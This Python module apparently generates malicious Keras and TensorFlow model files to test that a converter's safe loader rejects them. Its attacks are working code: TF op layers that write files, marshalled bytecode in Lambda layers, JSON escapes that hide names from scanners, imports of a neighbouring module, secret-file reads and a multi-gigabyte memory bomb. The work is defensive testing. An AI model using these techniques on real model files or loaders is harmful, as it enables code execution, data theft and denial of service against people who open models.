"""Model files that do harm when Keras or TensorFlow opens them, each made from a harmless one.

``open_without_door.py`` opens them as anyone would, which proves that they do what they are for.
"""

from __future__ import annotations

import base64
import contextlib
import json
import marshal
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from attack_graphs import GRAPHS

SECRET = 4242.0
STOLEN = "stolen"
HUGE = 40_000
MODULE = "evil_module_of_the_attack"
PROGRAM = "import os\nopen(os.environ['MARK'], 'w').close()\n"

Edit = Callable[[dict[str, Any], Path], None]
"""Puts the harm into a configuration, given the mark that shows that it was done."""


def layers_of(config: dict[str, Any]) -> list[dict[str, Any]]:
    layers: list[dict[str, Any]] = config["config"]["layers"]
    return layers


def caller(function: str, *arguments: str, **more: Any) -> dict[str, Any]:
    """A layer of Keras 2 that calls ``function`` of TensorFlow with constants."""
    name = "call_" + function.replace(".", "_")
    first, *_ = arguments
    call = [["_CONSTANT_VALUE", -1, first, more]]
    return {
        "module": "keras.src.layers.core.tf_op_layer",
        "class_name": "TFOpLambda",
        "config": {"name": name, "trainable": True, "dtype": "float32", "function": function},
        "registered_name": "TFOpLambda",
        "name": name,
        "inbound_nodes": call,
    }


def calls(function: str, **more: Any) -> Edit:
    """Let the model call ``function`` with the mark as its first argument."""
    return lambda config, mark: layers_of(config).append(caller(function, str(mark), **more))


def in_model(edit: Edit, wrapper: str | None = None) -> Edit:
    """Let ``edit`` change a model within the model, in the layer ``wrapper`` if one is named."""

    def change(config: dict[str, Any], mark: Path) -> None:
        inner = json.loads(json.dumps(config))
        inner["config"]["name"] = inner["name"] = "inner"
        edit(inner, mark)
        picture = layers_of(config)[0]
        name = picture["config"]["name"]
        held = inner
        if wrapper:
            shape = picture["config"].pop("batch_input_shape", None)
            picture["config"]["batch_input_shape"] = [None, 2, *shape[1:]]
            held = {
                "module": "keras.layers",
                "class_name": wrapper,
                "config": {"name": "held", "trainable": True, "layer": inner},
                "registered_name": None,
                "name": "held",
            }
        held["inbound_nodes"] = [[[name, 0, 0, {}]]]
        config["config"]["layers"] = [picture, held]
        config["config"]["output_layers"] = [[held["name"], 0, 0]]

    return change


def escaped(word: str) -> Callable[[str], str]:
    """Spell the first letter of ``word`` as a JSON escape, which a search for it does not see."""
    return lambda text: text.replace(f'"{word}"', f'"\\u{ord(word[0]):04x}{word[1:]}"')


def marshalled(config: dict[str, Any], mark: Path) -> None:
    """A Lambda that carries compiled Python."""
    source = f"lambda x: (open({str(mark)!r}, 'w').close(), x)[1]"
    code = compile(source, "<attack>", "eval").co_consts[0]
    packed = base64.b64encode(marshal.dumps(code)).decode() + "\n"
    lambda_ = {
        "class_name": "Lambda",
        "config": {
            "name": "harm",
            "function": [packed, None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
        "name": "harm",
        "inbound_nodes": [[[layers_of(config)[0]["config"]["name"], 0, 0, {}]]],
    }
    layers_of(config).append(lambda_)
    config["config"]["output_layers"].append(["harm", 0, 0])


def registered_as_ours(edit: Edit) -> Edit:
    """Call the class ours by the name that only some kinds of files are read by."""

    def change(config: dict[str, Any], mark: Path) -> None:
        edit(config, mark)
        layers_of(config)[-1]["registered_name"] = "tflconv>ClassToken"

    return change


def importing(**reference: Any) -> Edit:
    """Let the class of the model be looked for in a module beside the file."""
    return lambda config, _: config.update({"module": MODULE, **reference})


def preparing(place: str, **reference: Any) -> Edit:
    """Let a function of a layer be looked for in a module beside the file."""

    def change(config: dict[str, Any], mark: Path) -> None:
        harm = {"module": MODULE, "class_name": "function", "config": "relu"}
        harm |= {"registered_name": "relu", **reference}
        name = {"module": "keras.layers", "class_name": "TextVectorization"}
        inner = {"name": "words", "standardize": None, place: harm}
        layers_of(config).append({**name, "config": inner, "registered_name": None, **NO_CALLS})

    return change


NO_CALLS: dict[str, Any] = {"name": "words", "inbound_nodes": []}


OPTIMIZER = {"module": MODULE, "class_name": "Harm", "config": {}, "registered_name": None}
COMPILED = {
    "module": "keras",
    "class_name": "Sequential",
    "config": {"name": "inner", "layers": []},
    "registered_name": None,
    "compile_config": {"optimizer": OPTIMIZER, "loss": "mse"},
}


def applying(config: dict[str, Any], mark: Path) -> None:
    """A Lambda whose function is in a module beside the file."""
    function = {"module": MODULE, "class_name": "function", "config": "run"}
    layers_of(config).append(
        {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {
                "name": "harm",
                "function": {**function, "registered_name": "run"},
                "function_type": "function",
                "module": MODULE,
                "output_shape": None,
                "output_shape_type": "raw",
                "output_shape_module": None,
                "arguments": {},
            },
            "registered_name": None,
            "name": "harm",
            "inbound_nodes": [[[layers_of(config)[0]["config"]["name"], 0, 0, {}]]],
        }
    )


def reading(config: dict[str, Any], mark: Path) -> None:
    """A layer whose vocabulary is another file's content."""
    vocabulary = {"name": "words", "vocabulary": str(mark.with_name("secret.txt"))}
    name = {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None}
    layers_of(config).append({**name, "config": vocabulary, "name": "words", "inbound_nodes": []})


def huge(config: dict[str, Any], mark: Path) -> None:
    """Two layers of 6 GB together."""
    pooled = layers_of(config)[-2]["config"]["name"]
    (layer,) = layers_of(config)[-1:]
    second = json.loads(json.dumps(layer))
    layer["config"]["units"] = second["config"]["units"] = HUGE
    for part in (layer, second):
        part.pop("build_config", None)
    second["name"] = second["config"]["name"] = "second"
    text = json.dumps(layer["inbound_nodes"]).replace(f'"{pooled}"', f'"{layer["name"]}"')
    second["inbound_nodes"] = json.loads(text.replace("[null, 4]", f"[null, {HUGE}]"))
    layers_of(config).append(second)


def mapped(file: Any, mark: Path) -> None:
    """Weights that are the raw bytes of another file."""
    for holder, name in _kernels(file):
        shape, size = holder[name].shape, holder[name].nbytes
        del holder[name]
        place = [(str(mark.with_name("secret.raw")), 0, size)]
        holder.create_dataset(name, shape=shape, dtype="float32", external=place)


def _kernels(file: Any) -> list[tuple[Any, str]]:
    found: list[tuple[Any, str]] = []

    def look(_: str, part: Any) -> None:
        if getattr(part, "shape", None) == (4, 3):
            found.append((part.parent, part.name.rpartition("/")[2]))

    file.visititems(look)
    return found


BOTH = ("2.keras", "2.h5")
ALL = (*BOTH, "3.keras", "3.h5")

CONFIGS: dict[str, tuple[tuple[str, ...], Edit, Callable[[str], str]]] = {
    "write a file": (BOTH, calls("io.write_file", contents="x"), str),
    "make folders": (BOTH, calls("io.gfile.makedirs"), str),
    "make a folder by an old name": (BOTH, calls("compat.v1.gfile.MakeDirs"), str),
    "open a writer of summaries": (BOTH, calls("summary.create_file_writer"), str),
    "dump what is debugged": (
        BOTH, calls("debugging.experimental.enable_dump_debug_info"), str,
    ),
    "write, the class escaped": (BOTH, calls("io.write_file", contents="x"), escaped("TFOpLambda")),
    "write, the function escaped": (
        BOTH, calls("io.write_file", contents="x"), escaped("io.write_file"),
    ),
    "write, in a model": (BOTH, in_model(calls("io.write_file", contents="x")), str),
    "write, in a repeated model": (
        BOTH, in_model(calls("io.write_file", contents="x"), "TimeDistributed"), str,
    ),
    "Python in a Lambda": (("2.h5",), marshalled, str),
    "Python in an escaped Lambda": (("2.h5",), marshalled, escaped("Lambda")),
    "Python in a Lambda in a model": (("2.h5",), in_model(marshalled), escaped("Lambda")),
    "Python in a Lambda that is called ours": (("2.h5",), registered_as_ours(marshalled), str),
    "write, called ours": (
        BOTH, registered_as_ours(calls("io.write_file", contents="x")), str,
    ),
    "import as a function": (("2.keras",), applying, str),
    "import as a function, escaped": (("2.keras",), applying, escaped("Lambda")),
    "import as the model": (("2.keras",), importing(), str),
    "import as a class of Keras": (
        ("2.keras",), importing(class_name="Dense", registered_name="Dense"), str,
    ),
    "import by the registered name": (
        ("2.keras",), importing(class_name="Dense", registered_name="system"), str,
    ),
    "import to standardize": (("2.keras",), preparing("standardize"), str),
    "import to split": (("2.keras",), preparing("split"), str),
    "import as an optimizer": (("2.keras",), preparing("standardize", **COMPILED), str),
    "read a file as a vocabulary": (BOTH, reading, str),
    "declare 6 GB": (ALL, huge, str),
}  # fmt: skip
"""What is done, in which kinds of files, by which edit, and how its text is spelled."""

WEIGHTS = {"weights by another file's bytes": mapped}


def names() -> list[str]:
    """All attacks, each as what it does and the kind of file."""
    made = [f"{name} ({kind})" for name, (kinds, *_) in CONFIGS.items() for kind in kinds]
    made += [f"{name} ({kind})" for name in WEIGHTS for kind in BOTH]
    return made + [f"{name} (graph)" for name in GRAPHS]


def write(attack: str, folder: Path) -> tuple[Path, Path]:
    """Write the file of ``attack`` into ``folder``, and return it and the mark of its harm."""
    name, kind = attack.removesuffix(")").rsplit(" (", 1)
    mark, path = folder / "mark", folder / (f"model{kind[1:]}" if kind != "graph" else "model")
    _write_secrets(folder)
    if kind == "graph":
        GRAPHS[name](path, mark)
        return path, mark
    save_harmless(kind, path)
    with opened(path) as content:
        if name in WEIGHTS:
            content.edit_weights(lambda file: WEIGHTS[name](file, mark))
        else:
            _, edit, spell = CONFIGS[name]
            config = json.loads(content.config)
            edit(config, mark)
            content.config = spell(json.dumps(config))
    return path, mark


def _write_secrets(folder: Path) -> None:
    import numpy as np

    secret = np.full((4, 3), SECRET, np.float32)
    (folder / "secret.txt").write_text(STOLEN)
    (folder / "secret.raw").write_bytes(secret.tobytes())
    (folder / f"{MODULE}.py").write_text(PROGRAM)


def save_harmless(kind: str, path: Path) -> None:
    from tflconv.core.tensorflow import keras2, keras3

    library = keras2 if kind.startswith("2") else keras3()
    picture = library.layers.Input((8, 8, 1))
    features = library.layers.Conv2D(4, 3)(picture)
    pooled = library.layers.GlobalAveragePooling2D()(features)
    library.Model(picture, library.layers.Dense(3)(pooled)).save(path)


class _Content:
    """The configuration of a file, and what its weights are changed by."""

    def __init__(self, config: str) -> None:
        self.config = config
        self.edit_weights_by: Callable[[Any], None] = lambda _: None

    def edit_weights(self, edit: Callable[[Any], None]) -> None:
        self.edit_weights_by = edit


@contextlib.contextmanager
def opened(path: Path) -> Iterator[_Content]:
    import h5py

    if path.suffix == ".h5":
        with h5py.File(path, "r+") as file:
            content = _Content(file.attrs["model_config"])
            yield content
            content.edit_weights_by(file)
            file.attrs["model_config"] = content.config
        return
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    content = _Content(members["config.json"].decode())
    yield content
    weights = path.with_suffix(".weights")
    weights.write_bytes(members["model.weights.h5"])
    with h5py.File(weights, "r+") as file:
        content.edit_weights_by(file)
    changed = {"config.json": content.config.encode(), "model.weights.h5": weights.read_bytes()}
    with zipfile.ZipFile(path, "w") as archive:
        for name, member in (members | changed).items():
            archive.writestr(name, member)
